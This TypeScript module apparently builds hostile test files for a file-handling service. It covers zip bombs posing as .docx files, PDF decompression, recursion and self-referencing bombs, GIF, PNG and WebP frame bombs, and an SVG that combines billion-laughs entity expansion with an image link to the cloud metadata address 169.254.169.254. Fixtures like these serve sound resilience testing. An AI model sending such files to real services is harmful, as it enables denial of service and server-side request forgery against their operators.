/** Files that are small on the wire and large, deep or numerous once opened. */
import { crc32 } from 'node:zlib'
import { deflatedZeros, flatPng, pngChunk, rawDeflatedZeros } from './png.ts'

type Entry = { name: string; packed: Buffer; length: number; crc?: number }

/** An archive as a word processor writes it, with entries packed already. */
function zip(entries: Entry[]): Buffer {
  const parts: Buffer[] = []
  const index: Buffer[] = []
  let offset = 0
  for (const { name, packed, length, crc = 0 } of entries) {
    const fields = Buffer.alloc(26)
    fields.writeUInt16LE(20, 0)
    fields.writeUInt16LE(8, 4)
    fields.writeUInt32LE(crc, 10)
    fields.writeUInt32LE(packed.length, 14)
    fields.writeUInt32LE(length, 18)
    fields.writeUInt16LE(name.length, 22)
    const local = Buffer.concat([Buffer.from('PK\x03\x04'), fields, Buffer.from(name), packed])
    const place = Buffer.alloc(14)
    place.writeUInt32LE(offset, 10)
    const madeBy = Buffer.from([20, 0])
    index.push(Buffer.concat([Buffer.from('PK\x01\x02'), madeBy, fields, place, Buffer.from(name)]))
    parts.push(local)
    offset += local.length
  }
  const end = Buffer.alloc(18)
  end.writeUInt16LE(entries.length, 4)
  end.writeUInt16LE(entries.length, 6)
  end.writeUInt32LE(
    index.reduce((sum, { length }) => sum + length, 0),
    8,
  )
  end.writeUInt32LE(offset, 12)
  return Buffer.concat([...parts, ...index, Buffer.from('PK\x05\x06'), end])
}

/** Compresses a thousand to one, so it is small enough for every upload. */
const unpackedBytes = 700_000_000

export const hugeDocx = (): Buffer => {
  const zeros = { packed: rawDeflatedZeros(unpackedBytes), length: unpackedBytes }
  return zip([{ name: 'word/document.xml', ...zeros }])
}

/** Archives in archives in archives, sixteen of them each time. */
export function nestedDocx(): Buffer {
  let inner = hugeDocx()
  for (let depth = 0; depth < 4; depth++) {
    const stored = storedBlock(inner.subarray(0, 40_000))
    const entry = { packed: stored, length: 40_000, crc: crc32(inner.subarray(0, 40_000)) }
    inner = zip(Array.from({ length: 16 }, (_, at) => ({ name: `${at}.docx`, ...entry })))
  }
  return inner
}

export const crowdedDocx = (): Buffer => {
  const empty = { packed: Buffer.from('0300', 'hex'), length: 0 }
  return zip(Array.from({ length: 6000 }, (_, at) => ({ name: `word/${at}.xml`, ...empty })))
}

function storedBlock(bytes: Buffer): Buffer {
  const head = Buffer.from([1, 0, 0, 0, 0])
  head.writeUInt16LE(bytes.length, 1)
  head.writeUInt16LE(~bytes.length & 0xffff, 3)
  return Buffer.concat([head, bytes])
}

const pdf = (...parts: (string | Buffer)[]): Buffer =>
  Buffer.concat(
    ['%PDF-1.7\n', ...parts, '\ntrailer <</Root 1 0 R>>\n%%EOF\n'].map((part) => Buffer.from(part)),
  )

/** Compressed twice, against readers that render the page. */
export const hugePdf = (): Buffer => {
  const packed = deflatedZeros(unpackedBytes)
  const head = `1 0 obj <</Filter [/FlateDecode /FlateDecode] /Length ${packed.length}>> stream\n`
  return pdf(head, packed, '\nendstream endobj')
}

/** Nested brackets, against recursive parsers. */
export const deepPdf = (): Buffer => pdf('1 0 obj ', '['.repeat(700_000), ' endobj')

/** A page tree that contains itself, in a file that is an archive as well. */
export const manifoldPdf = (): Buffer =>
  pdf('1 0 obj <</Type /Pages /Kids [1 0 R 1 0 R] /Count 2147483647>> endobj\n', crowdedDocx())

export const svg = (): Buffer =>
  Buffer.from(
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${Array.from(
      { length: 12 },
      (_, at) => `<!ENTITY a${at} "${`&a${at ? at - 1 : ''};`.repeat(10)}">`,
    ).join('')}]><svg xmlns="http://www.w3.org/2000/svg" width="90000" height="90000">
    <image href="http://169.254.169.254/"/><text>&a11;</text></svg>`,
  )

/** Frames of one pixel on a canvas of any size, up to four thousand million pixels. */
export function gif({ frames, side }: { frames: number; side: number }): Buffer {
  const screen = Buffer.from([0, 0, 0, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255])
  screen.writeUInt16LE(side, 0)
  screen.writeUInt16LE(side, 2)
  const frame = Buffer.from('2c00000000010001000002024c0100', 'hex')
  return Buffer.concat([
    Buffer.from('GIF89a'),
    screen,
    ...Array.from({ length: frames }, () => frame),
    Buffer.from(';'),
  ])
}

/** An animated PNG; most programs show only its first frame. */
export function animatedPng(frames: number): Buffer {
  const control = Buffer.alloc(8)
  control.writeUInt32BE(frames, 0)
  const frame = pngChunk('fdAT', Buffer.concat([Buffer.alloc(4), deflatedZeros(5 * 4000 * 4)]))
  const before = [pngChunk('acTL', control), ...Array.from({ length: frames }, () => frame)]
  return flatPng({ width: 64, height: 64, before })
}

export function animatedWebp(frames: number): Buffer {
  const chunk = (name: string, data: Buffer) => {
    const head = Buffer.from(`${name}\0\0\0\0`)
    head.writeUInt32LE(data.length, 4)
    return Buffer.concat([head, data])
  }
  const canvas = Buffer.from('02000000ff3f00ff3f00', 'hex') // 16,384 by 16,384, with frames.
  const frame = chunk('ANMF', Buffer.alloc(24))
  const body = [
    Buffer.from('WEBP'),
    chunk('VP8X', canvas),
    ...Array.from({ length: frames }, () => frame),
  ]
  return chunk('RIFF', Buffer.concat(body))
}
